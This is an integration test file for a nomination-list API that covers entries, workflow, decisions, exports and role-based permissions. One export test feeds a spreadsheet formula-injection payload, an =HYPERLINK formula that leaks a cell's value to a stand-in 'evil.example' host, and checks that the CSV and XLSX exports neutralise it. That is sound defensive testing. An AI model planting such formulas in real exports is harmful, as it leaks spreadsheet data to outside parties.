import { checkRoute, matrixRows, type RouteCase } from '../support/permission-matrix';
import {
  buildExemplaryWorld,
  csvRecords,
  download,
  EXEMPLARY_ENV,
  type ExemplaryWorld,
  pdfText,
  rollUp,
  xlsxRows,
} from '../support/exemplary-world';
import { entriesOf } from '../support/zip-file';
import { createTestApp, TestApp } from '../support/test-app';
import { buildWorld, World, WorldUser } from '../support/world';

describe('nomination lists (SPEC §8)', () => {
  let t: TestApp;
  let w: World;
  let x: ExemplaryWorld;

  const as = (user: WorldUser) => ({
    get: (path: string) => t.http().get(path).set('Authorization', w.tokens[user]),
    post: (path: string, body: object = {}) =>
      t.http().post(path).set('Authorization', w.tokens[user]).send(body),
    delete: (path: string) => t.http().delete(path).set('Authorization', w.tokens[user]),
  });
  const newList = async (user: WorldUser, body: object) => {
    const response = await as(user).post('/api/nominations', body);
    expect(response.status).toBe(201);
    return response.body as { id: number; status: string; agencyId: number | null };
  };
  const entry = (subjectId: number, extra: object = {}) => ({
    subjectType: 'person',
    subjectId,
    achievement: 'Hoàn thành xuất sắc nhiệm vụ; không có phản ánh của công dân.',
    ...extra,
  });
  const decision = (value: 'accepted' | 'rejected') => ({
    decision: value,
    decisionNumber: '125/QĐ-SVHTT',
    decisionDate: '2026-02-10',
  });

  beforeAll(async () => {
    t = await createTestApp(EXEMPLARY_ENV);
    w = await buildWorld(t);
    x = await buildExemplaryWorld(t, w);
    await rollUp(t, w.tokens.admin, '2025');
  });
  afterAll(() => t.close());

  describe('creating lists', () => {
    it('creates a draft list of its own agency for an agency nominator', async () => {
      const list = await newList('nominatorA', { title: 'Danh sách năm 2025', period: '2025' });
      expect(list).toMatchObject({
        status: 'draft',
        agencyId: w.agencyA.id,
        subjectType: 'person',
        period: '2025',
        entries: [],
      });
      const read = await as('headA').get(`/api/nominations/${list.id}`);
      expect(read.status).toBe(200);
    });

    it('creates the city list of agencies for a city-wide nominator (no agencyId)', async () => {
      const list = await newList('nominatorCity', { title: 'Cơ quan tiêu biểu', period: '2025' });
      expect(list).toMatchObject({ agencyId: null, subjectType: 'agency' });
    });

    it.each([
      ['a quarter', { title: 'x', period: '2025-Q1' }],
      ['no title', { period: '2025' }],
      ['an unknown field', { title: 'x', period: '2025', foo: 1 }],
      ['an unknown agency', { title: 'x', period: '2025', agencyId: 999999 }],
    ])('refuses %s with 400', async (_name, body) => {
      const response = await as('admin').post('/api/nominations', body);
      expect(response.status).toBe(400);
      expect(response.body.code).toBe('VALIDATION_FAILED');
    });

    it('refuses a list of another agency to an agency nominator', async () => {
      const response = await as('nominatorA').post('/api/nominations', {
        title: 'x',
        period: '2025',
        agencyId: w.agencyB.id,
      });
      expect(response.status).toBe(403);
    });
  });

  describe('entries, workflow and decisions', () => {
    let listA: number;
    let listA2: number;

    beforeAll(async () => {
      listA = (await newList('nominatorA', { title: 'Danh sách A', period: '2025' })).id;
      listA2 = (
        await newList('admin', {
          title: 'Danh sách A bổ sung',
          period: '2025',
          agencyId: w.agencyA.id,
        })
      ).id;
    });

    it('adds a candidate with its total, grade and rank at that time', async () => {
      const response = await as('nominatorA').post(
        `/api/nominations/${listA}/entries`,
        entry(x.people.hoa),
      );
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({
        subjectId: x.people.hoa,
        name: 'Nguyễn Thị Hoà',
        candidate: true,
        total: 100,
        grade: 'A',
        rank: 1,
        rankedOf: 8,
        overrideReason: null,
      });
    });

    it('needs an override reason for a subject that is not a candidate, and audits it', async () => {
      const refused = await as('nominatorA').post(
        `/api/nominations/${listA}/entries`,
        entry(x.people.khanh),
      );
      expect(refused.status).toBe(400);
      expect(refused.body.code).toBe('VALIDATION_FAILED');
      expect(refused.body.details[0].field).toBe('overrideReason');
      const reason = 'Có thành tích đột xuất trong tiếp công dân';
      const added = await as('nominatorA').post(
        `/api/nominations/${listA}/entries`,
        entry(x.people.khanh, { overrideReason: reason }),
      );
      expect(added.status).toBe(201);
      expect(added.body).toMatchObject({ candidate: false, grade: 'B', total: 85, rank: 7 });
      const audit = await as('admin').get(
        `/api/audit?entity=nomination_entry&entityId=${added.body.id}`,
      );
      expect(audit.body.items).toEqual([expect.objectContaining({ reason })]);
    });

    it('refuses a subject twice in a period across lists that are not rejected (409)', async () => {
      const again = await as('admin').post(
        `/api/nominations/${listA2}/entries`,
        entry(x.people.hoa),
      );
      expect(again.status).toBe(409);
      expect(again.body.code).toBe('CONFLICT');
      const same = await as('nominatorA').post(
        `/api/nominations/${listA}/entries`,
        entry(x.people.hoa),
      );
      expect(same.status).toBe(409);
    });

    it('holds the one-list rule under concurrent adds', async () => {
      const responses = await Promise.all(
        [listA, listA2].map((id) =>
          as('admin').post(`/api/nominations/${id}/entries`, entry(x.people.an)),
        ),
      );
      expect(responses.map((r) => r.status).sort()).toEqual([201, 409]);
      const winner = responses.find((r) => r.status === 201)!;
      const listOf = (await as('admin').get(`/api/nominations/${listA}`)).body.entries.some(
        (e: { id: number }) => e.id === winner.body.id,
      )
        ? listA
        : listA2;
      await as('admin').delete(`/api/nominations/${listOf}/entries/${winner.body.id}`).expect(200);
    });

    it.each([
      [
        'a person of another agency (admin)',
        'admin',
        () => entry(x.people.binhB, { overrideReason: 'x' }),
        400,
      ],
      [
        'a person of another agency (nominator)',
        'nominatorA',
        () => entry(x.people.binhB, { overrideReason: 'x' }),
        403,
      ],
      [
        'an agency on a list of people',
        'admin',
        () => ({ ...entry(w.agencyA.id), subjectType: 'agency' }),
        400,
      ],
      [
        'an achievement over 2000 characters',
        'admin',
        () => entry(x.people.an, { achievement: 'a'.repeat(2001) }),
        400,
      ],
      ['an unknown person', 'admin', () => entry(999999, { overrideReason: 'x' }), 400],
    ] as [string, WorldUser, () => object, number][])(
      'refuses %s',
      async (_name, user, body, status) => {
        const response = await as(user).post(`/api/nominations/${listA}/entries`, body());
        expect(response.status).toBe(status);
      },
    );

    it('removes an entry while draft', async () => {
      const added = await as('nominatorA').post(
        `/api/nominations/${listA}/entries`,
        entry(x.people.an),
      );
      expect(added.status).toBe(201);
      const removed = await as('nominatorA').delete(
        `/api/nominations/${listA}/entries/${added.body.id}`,
      );
      expect(removed.status).toBe(200);
      expect(removed.body.entries.map((e: { subjectId: number }) => e.subjectId)).not.toContain(
        x.people.an,
      );
      expect(
        (await as('nominatorA').delete(`/api/nominations/${listA}/entries/${added.body.id}`))
          .status,
      ).toBe(404);
    });

    it('submits a draft with entries; an empty draft cannot be submitted', async () => {
      const empty = await newList('nominatorA', { title: 'Trống', period: '2025-H2' });
      const refused = await as('nominatorA').post(`/api/nominations/${empty.id}/submit`);
      expect(refused.status).toBe(409);
      expect(refused.body.code).toBe('INVALID_TRANSITION');
      const submitted = await as('nominatorA').post(`/api/nominations/${listA}/submit`);
      expect(submitted.status).toBe(200);
      expect(submitted.body).toMatchObject({ status: 'submitted', entryCount: 2 });
    });

    it('refuses changes outside a draft and a second submit (409 INVALID_TRANSITION)', async () => {
      const calls = [
        as('nominatorA').post(`/api/nominations/${listA}/entries`, entry(x.people.an)),
        as('nominatorA').post(`/api/nominations/${listA}/submit`),
        as('admin').post(`/api/nominations/${listA2}/decide`, decision('accepted')), // still a draft
      ];
      for (const response of await Promise.all(calls)) {
        expect(response.status).toBe(409);
        expect(response.body.code).toBe('INVALID_TRANSITION');
      }
      const list = (await as('admin').get(`/api/nominations/${listA}`)).body;
      const removed = await as('admin').delete(
        `/api/nominations/${listA}/entries/${list.entries[0].id}`,
      );
      expect(removed.status).toBe(409);
    });

    it.each([
      ['no decision number', { decision: 'accepted', decisionDate: '2026-02-10' }],
      ['no decision date', { decision: 'accepted', decisionNumber: '1/QĐ' }],
      ['an impossible date', { ...decision('accepted'), decisionDate: '2026-02-30' }],
      ['an unknown decision', { ...decision('accepted'), decision: 'maybe' }],
    ])('refuses a decision with %s (400)', async (_name, body) => {
      const response = await as('admin').post(`/api/nominations/${listA}/decide`, body);
      expect(response.status).toBe(400);
    });

    it('lets only admin decide; a rejected list frees its subjects', async () => {
      const byNominator = await as('nominatorA').post(
        `/api/nominations/${listA}/decide`,
        decision('rejected'),
      );
      expect(byNominator.status).toBe(403);
      expect((await as('admin').get(`/api/nominations/${listA}`)).body.status).toBe('submitted');

      const rejected = await as('admin').post(
        `/api/nominations/${listA}/decide`,
        decision('rejected'),
      );
      expect(rejected.status).toBe(200);
      expect(rejected.body).toMatchObject({
        status: 'rejected',
        decisionNumber: '125/QĐ-SVHTT',
        decisionDate: '2026-02-10',
      });
      const again = await as('admin').post(
        `/api/nominations/${listA}/decide`,
        decision('accepted'),
      );
      expect(again.status).toBe(409);

      const freed = await as('admin').post(
        `/api/nominations/${listA2}/entries`,
        entry(x.people.hoa),
      );
      expect(freed.status).toBe(201);
      await as('admin').post(`/api/nominations/${listA2}/submit`).expect(200);
      const accepted = await as('admin').post(
        `/api/nominations/${listA2}/decide`,
        decision('accepted'),
      );
      expect(accepted.body.status).toBe('accepted');
      const audit = await as('admin').get(`/api/audit?entity=nomination_list&entityId=${listA2}`);
      expect(audit.body.items.map((i: { action: string }) => i.action).sort()).toEqual(
        ['accept', 'create', 'submit'].sort(),
      );
    });

    it('lists the lists of its scope, filtered and paged', async () => {
      const own = await as('nominatorA').get('/api/nominations?period=2025&limit=2');
      expect(own.status).toBe(200);
      expect(own.body).toMatchObject({ limit: 2, offset: 0 });
      expect(own.body.items).toHaveLength(2);
      expect(own.body.items.every((l: { agencyId: number }) => l.agencyId === w.agencyA.id)).toBe(
        true,
      );
      const rejected = await as('admin').get('/api/nominations?status=rejected');
      expect(rejected.body.items.map((l: { id: number }) => l.id)).toEqual([listA]);
      expect((await as('nominatorA').get(`/api/nominations?agencyId=${w.agencyB.id}`)).status).toBe(
        403,
      );
      expect((await as('headB').get(`/api/nominations/${listA}`)).status).toBe(403);
    });
  });

  describe('export', () => {
    let listId: number;

    beforeAll(async () => {
      listId = (
        await newList('nominatorA', {
          title: 'Danh sách đề nghị khen thưởng năm 2025',
          period: '2025',
        })
      ).id;
      await as('nominatorA')
        .post(
          `/api/nominations/${listId}/entries`,
          entry(x.people.an, { achievement: 'Sáng kiến "một cửa số", rút ngắn thời gian' }),
        )
        .expect(201);
      await as('nominatorA')
        .post(
          `/api/nominations/${listId}/entries`,
          entry(x.people.linh, { overrideReason: 'Đề nghị đặc biệt' }),
        )
        .expect(201);
    });

    it('exports XLSX with the columns of SPEC §8', async () => {
      const response = await download(
        t,
        `/api/nominations/${listId}/export?format=xlsx`,
        w.tokens.nominatorA,
      );
      expect(response.status).toBe(200);
      expect(response.headers['content-disposition']).toMatch(/^attachment;/);
      const rows = await xlsxRows(response.body as Buffer);
      expect(rows[0][0]).toBe('Danh sách đề nghị khen thưởng năm 2025');
      const header = rows.findIndex((r) => r[0] === 'STT');
      expect(rows[header]).toEqual([
        'STT',
        'Họ và tên',
        'Chức vụ',
        'Đơn vị',
        'Điểm',
        'Xếp loại',
        'Xếp hạng',
        'Thành tích',
      ]);
      expect(rows[header + 1]).toEqual([
        1,
        'Lê Văn An',
        'Phó trưởng phòng',
        'Bộ phận một cửa',
        99.5,
        'Xuất sắc',
        4,
        'Sáng kiến "một cửa số", rút ngắn thời gian',
      ]);
      expect(rows[header + 2].slice(0, 2)).toEqual([2, 'Bùi Thị Linh']);
    });

    it('exports CSV in UTF-8 with a BOM and RFC 4180 quoting', async () => {
      const response = await download(
        t,
        `/api/nominations/${listId}/export?format=csv`,
        w.tokens.admin,
      );
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toMatch(/text\/csv/);
      const body = response.body as Buffer;
      expect(body.toString('utf8')).toContain('"Sáng kiến ""một cửa số"", rút ngắn thời gian"');
      const records = csvRecords(body);
      expect(records[0]).toEqual([
        'STT',
        'Họ và tên',
        'Chức vụ',
        'Đơn vị',
        'Điểm',
        'Xếp loại',
        'Xếp hạng',
        'Thành tích',
      ]);
      expect(records[1]).toEqual([
        '1',
        'Lê Văn An',
        'Phó trưởng phòng',
        'Bộ phận một cửa',
        '99.50',
        'Xuất sắc',
        '4',
        'Sáng kiến "một cửa số", rút ngắn thời gian',
      ]);
      expect(records[2].slice(0, 6)).toEqual([
        '2',
        'Bùi Thị Linh',
        'Nhân viên',
        'Bộ phận một cửa',
        '80.00',
        'Tốt',
      ]);
    });

    it('exports a PDF with the national header and the Vietnamese names', async () => {
      const response = await download(
        t,
        `/api/nominations/${listId}/export?format=pdf`,
        w.tokens.headA,
      );
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('application/pdf');
      const text = await pdfText(response.body as Buffer);
      expect(text).toContain('CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM');
      expect(text).toContain('Độc lập - Tự do - Hạnh phúc');
      expect(text).toContain('Lê Văn An');
      expect(text).toContain('Bùi Thị Linh');
    });

    it('exports names and achievements that look like formulas as text, in CSV and XLSX', async () => {
      const formulaName = '=HYPERLINK("http://evil.example/?"&B3,"Xem")';
      // (A leading tab or CR is trimmed away on input; the writer's unit test covers them.)
      const achievements = ['+1 sáng kiến', '-2 phản ánh', '@SUM(A1:A9)', '=1+1'];
      const rename = (fullName: string) =>
        t
          .http()
          .patch(`/api/people/${x.people.em}`)
          .set('Authorization', w.tokens.admin)
          .send({ fullName })
          .expect(200);
      await rename(formulaName);
      const entries: string[] = [];
      try {
        const list = await newList('nominatorA', { title: '=1+1 danh sách', period: '2025-H1' });
        const subjects = [x.people.em, x.people.an, x.people.dung, x.people.khanh];
        for (const [index, achievement] of achievements.entries()) {
          const added = await as('nominatorA')
            .post(`/api/nominations/${list.id}/entries`)
            .send(entry(subjects[index], { achievement, overrideReason: 'Thử công thức' }))
            .expect(201);
          entries.push(`/api/nominations/${list.id}/entries/${added.body.id}`);
        }
        const csv = csvRecords(
          (await download(t, `/api/nominations/${list.id}/export?format=csv`, w.tokens.admin))
            .body as Buffer,
        );
        expect(csv[1][1]).toBe(`'${formulaName}`);
        expect(csv.slice(1).map((record) => record[7])).toEqual(
          achievements.map((text) => `'${text}`),
        );
        // Numbers stay numbers: only text cells are neutralised.
        expect(csv.slice(1).map((record) => record[0])).toEqual(['1', '2', '3', '4']);

        const xlsx = (
          await download(t, `/api/nominations/${list.id}/export?format=xlsx`, w.tokens.admin)
        ).body as Buffer;
        const rows = await xlsxRows(xlsx);
        const header = rows.findIndex((r) => r[0] === 'STT');
        expect(rows[header + 1][1]).toBe(formulaName);
        expect(rows.slice(header + 1).map((r) => r[7])).toEqual(achievements);
        const sheet = (await entriesOf(xlsx)).find((e) => e.name === 'xl/worksheets/sheet1.xml');
        expect(sheet!.data.toString()).not.toContain('<f>');
      } finally {
        // Leave the people free for the lists of 2025-H1 below.
        for (const path of entries) await as('nominatorA').delete(path).expect(200);
        await rename('Vũ Văn Em');
      }
    });

    it('refuses an unknown format (400) and another agency (403)', async () => {
      expect((await as('admin').get(`/api/nominations/${listId}/export?format=doc`)).status).toBe(
        400,
      );
      expect((await as('admin').get(`/api/nominations/${listId}/export`)).status).toBe(400);
      expect((await as('headB').get(`/api/nominations/${listId}/export?format=csv`)).status).toBe(
        403,
      );
    });
  });

  describe('role × scope', () => {
    // A list of agency A per route; refusals must leave it as it was.
    const lists: Record<string, number> = {};
    let entryId: number;
    let submittedId: number;
    beforeAll(async () => {
      for (const name of ['read', 'entries', 'submit']) {
        lists[name] = (
          await newList('admin', {
            title: `Ma trận ${name}`,
            period: '2025-H1',
            agencyId: w.agencyA.id,
          })
        ).id;
      }
      const added = await as('admin').post(
        `/api/nominations/${lists.entries}/entries`,
        entry(x.people.linh, { overrideReason: 'x' }),
      );
      entryId = added.body.id;
      submittedId = (
        await newList('admin', { title: 'Đã gửi', period: '2025-H2', agencyId: w.agencyA.id })
      ).id;
      await as('admin')
        .post(
          `/api/nominations/${submittedId}/entries`,
          entry(x.people.linh, { overrideReason: 'x' }),
        )
        .expect(201);
      await as('admin').post(`/api/nominations/${submittedId}/submit`).expect(200);
      await as('admin')
        .post(
          `/api/nominations/${lists.submit}/entries`,
          entry(x.people.bao, { overrideReason: 'x' }),
        )
        .expect(201);
    });

    const readers = {
      admin: 200,
      headA: 200,
      nominatorA: 200,
      nominatorCity: 200,
      inspector: 200,
    };
    const routes: RouteCase[] = [
      {
        name: 'POST /nominations (agency A)',
        method: 'post',
        path: () => '/api/nominations',
        body: (w) => ({ title: 'Ma trận', period: '2025', agencyId: w.agencyA.id }),
        allowed: { admin: 201, nominatorA: 201, nominatorCity: 201 },
        snapshot: () => '/api/nominations?limit=500',
      },
      {
        name: 'GET /nominations',
        method: 'get',
        path: () => '/api/nominations',
        // headB reads its own agency's lists (none): scoped, not refused.
        allowed: { ...readers, headB: 200 },
      },
      {
        name: 'GET /nominations/:id',
        method: 'get',
        path: () => `/api/nominations/${lists.read}`,
        allowed: readers,
      },
      {
        name: 'GET /nominations/:id/export',
        method: 'get',
        path: () => `/api/nominations/${lists.read}/export?format=csv`,
        allowed: readers,
      },
      {
        name: 'POST /nominations/:id/entries (409 once in)',
        method: 'post',
        path: () => `/api/nominations/${lists.entries}/entries`,
        body: () => entry(x.people.dung, { overrideReason: 'x' }),
        allowed: { admin: 201, nominatorA: 409, nominatorCity: 409 },
        snapshot: () => `/api/nominations/${lists.entries}`,
      },
      {
        name: 'DELETE /nominations/:id/entries/:entryId (404 once gone)',
        method: 'delete',
        path: () => `/api/nominations/${lists.entries}/entries/${entryId}`,
        allowed: { admin: 200, nominatorA: 404, nominatorCity: 404 },
        snapshot: () => `/api/nominations/${lists.entries}`,
      },
      {
        name: 'POST /nominations/:id/submit (409 once submitted)',
        method: 'post',
        path: () => `/api/nominations/${lists.submit}/submit`,
        allowed: { admin: 200, nominatorA: 409, nominatorCity: 409 },
        snapshot: () => `/api/nominations/${lists.submit}`,
      },
      {
        name: 'POST /nominations/:id/decide',
        method: 'post',
        path: () => `/api/nominations/${submittedId}/decide`,
        body: () => decision('accepted'),
        allowed: { admin: 200 },
        snapshot: () => `/api/nominations/${submittedId}`,
      },
    ];
    it.each(matrixRows(routes))('%s as %s → %d', async (_name, user, expected, route) => {
      await checkRoute(t, w, route, user, expected);
    });

    it('keeps the city list of agencies from agency-bound roles', async () => {
      const city = await newList('nominatorCity', { title: 'Cơ quan', period: '2025' });
      for (const user of ['nominatorA', 'headA'] as WorldUser[]) {
        expect((await as(user).get(`/api/nominations/${city.id}`)).status).toBe(403);
      }
      const add = await as('nominatorA').post(`/api/nominations/${city.id}/entries`, {
        subjectType: 'agency',
        subjectId: w.agencyA.id,
        achievement: 'x',
        overrideReason: 'x',
      });
      expect(add.status).toBe(403);
      const byCity = await as('nominatorCity').post(`/api/nominations/${city.id}/entries`, {
        subjectType: 'agency',
        subjectId: w.agencyA.id,
        achievement: 'Cơ quan dẫn đầu khối sở, ngành',
      });
      expect(byCity.status).toBe(201);
      expect(byCity.body).toMatchObject({ candidate: true, name: 'Sở Tài chính thử' });
    });
  });
});
